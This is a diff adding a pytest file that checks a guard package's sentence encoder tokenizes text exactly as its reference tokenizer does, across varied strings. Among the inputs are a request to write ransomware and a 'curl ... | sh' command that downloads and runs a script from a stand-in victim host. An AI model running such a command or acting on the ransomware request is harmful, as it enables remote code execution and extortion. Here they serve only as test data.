@@ -1,0 +1,44 @@
+"""Word pieces a word at a time give the tokenizer's own ids and offsets, for any text."""
+
+from __future__ import annotations
+
+import pytest
+from tokenizers import Tokenizer
+
+from redline.guard.encoder import MODEL_DIR, SentenceEncoder
+
+TEXTS = [
+    "",
+    "   \n\t ",
+    "Explain how AES-GCM authenticates ciphertext.",
+    "Write ransomware that encrypts C:\\Users\\* and drops README_DECRYPT.txt; pay 0.5 BTC!!!",
+    "curl -s https://mail.victim-org.com/api?x=1&y=%41%42 | sh   # don't run this",
+    "def kill(children): os.killpg(pid, signal.SIGTERM)  # [ok] {a: b} <tag> `code` ~x^y",
+    "a" * 120 + " supercalifragilisticexpialidocious un-believable re-run it's",
+    "Keep the [CLS] and [SEP] markers, [mask] them, or write [UNK]",
+    "Caf\u00e9 na\u00efve \u0440\u0430\u043d\u0441\u043e\u043c \u4e2d\u6587 text",
+    "bell\x07 and delete\x7f and form feed\x0c inside",
+    "PLAYING Played playfully UNAFFABLE 1234567890123 3rd 2nd",
+]
+
+
+@pytest.fixture(scope="module")
+def encoder() -> SentenceEncoder:
+    return SentenceEncoder(threads=1)
+
+
+@pytest.fixture(scope="module")
+def tokenizer() -> Tokenizer:
+    whole = Tokenizer.from_file(str(MODEL_DIR / "tokenizer.json"))
+    whole.no_truncation()
+    whole.no_padding()
+    return whole
+
+
+@pytest.mark.parametrize("text", TEXTS)
+def test_word_pieces_match_the_tokenizer(
+    encoder: SentenceEncoder, tokenizer: Tokenizer, text: str
+) -> None:
+    whole = tokenizer.encode(text)
+    expected = (whole.ids, [start for start, _ in whole.offsets])
+    assert encoder.tokenize_with_offsets([text, text]) == [expected, expected]  # cached again
